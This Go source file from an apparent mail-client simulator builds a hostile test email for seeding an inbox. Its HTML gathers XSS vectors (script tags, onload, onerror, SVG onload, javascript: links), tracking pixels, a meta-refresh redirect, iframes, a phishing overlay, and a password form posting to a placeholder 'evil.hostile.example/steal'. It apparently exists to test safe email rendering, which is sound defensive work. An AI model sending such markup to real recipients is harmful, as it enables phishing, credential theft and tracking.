package m365sim

import (
	"fmt"
	"strings"
	"time"
)

// HostileSubject is the subject of the hostile sample Seed puts in the
// first seeded user's inbox (HostileMIME).
const HostileSubject = "[MailDesk hostile sample] Invoice overdue: action required"

// HostileFrom is the hostile sample's sender.
const HostileFrom = "billing@hostile.example"

// HostileHost is the host every remote reference of the hostile sample
// points at: nothing showing the sample may ever request it.
const HostileHost = "evil.hostile.example"

// HostileMIME is a mail meant to do harm where it is shown: scripts, event
// handlers (onload, onerror, onmouseover, SVG's onload), javascript: links,
// remote images (src, srcset, background attributes, CSS url() and
// @import, an SVG image, a video poster), a stylesheet link, a meta
// refresh, an iframe, object and embed, a full-window overlay and hidden
// text (CSS tricks), and a form posting a password elsewhere. Every remote
// reference goes to HostileHost; a script that ran would set
// window.top.maildeskPwned.
func HostileMIME(to string, msgID string, at time.Time) []byte {
	u := func(path string) string { return "https://" + HostileHost + "/" + path }
	pwn := func(how string) string { return "window.top.maildeskPwned='" + how + "'" }
	html := strings.Join([]string{
		`<html><head>`,
		`<meta http-equiv="refresh" content="0;url=` + u("phish") + `">`,
		`<link rel="stylesheet" href="` + u("track.css") + `">`,
		`<style>@import url("` + u("import.css") + `"); body{background:url(` + u("bg.png") + `)}`,
		`.overlay{position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff}</style>`,
		`<script>` + pwn("script") + `;new Image().src="` + u("script.gif") + `";</script>`,
		`</head><body onload="` + pwn("onload") + `" background="` + u("body.png") + `">`,
		`<div class="overlay">Your session expired. <a href="javascript:` + pwn("href") + `">Sign in again</a></div>`,
		`<p style="background-image:url('` + u("css-bg.png") + `')">Dear customer, your invoice is overdue.</p>`,
		`<img src="` + u("pixel.gif") + `" width="1" height="1" alt="">`,
		`<img src="x" onerror="` + pwn("onerror") + `">`,
		`<img srcset="` + u("a.png") + ` 1x, ` + u("b.png") + ` 2x" alt="logo">`,
		`<svg onload="` + pwn("svg") + `"><image href="` + u("svg.png") + `"/></svg>`,
		`<iframe src="` + u("frame") + `"></iframe>`,
		`<object data="` + u("object.swf") + `"></object><embed src="` + u("embed.swf") + `">`,
		`<form action="` + u("steal") + `" method="post"><input name="password" type="password" placeholder="Password">`,
		`<button type="submit" formaction="` + u("steal2") + `">Pay now</button></form>`,
		`<video poster="` + u("poster.png") + `"></video>`,
		`<p><a href="` + u("pay") + `" onmouseover="` + pwn("hover") + `">Pay the invoice</a></p>`,
		`<span style="display:none">hidden text for filters</span>`,
		`</body></html>`,
	}, "\r\n")
	var b strings.Builder
	fmt.Fprintf(&b, "From: Billing <%s>\r\nTo: %s\r\nSubject: %s\r\nMessage-ID: %s\r\n", HostileFrom, to, HostileSubject, msgID)
	fmt.Fprintf(&b, "Date: %s\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=\"h1\"\r\n\r\n", at.Format(time.RFC1123Z))
	b.WriteString("--h1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nDear customer, your invoice is overdue.\r\n")
	b.WriteString("--h1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html + "\r\n--h1--\r\n")
	return []byte(b.String())
}
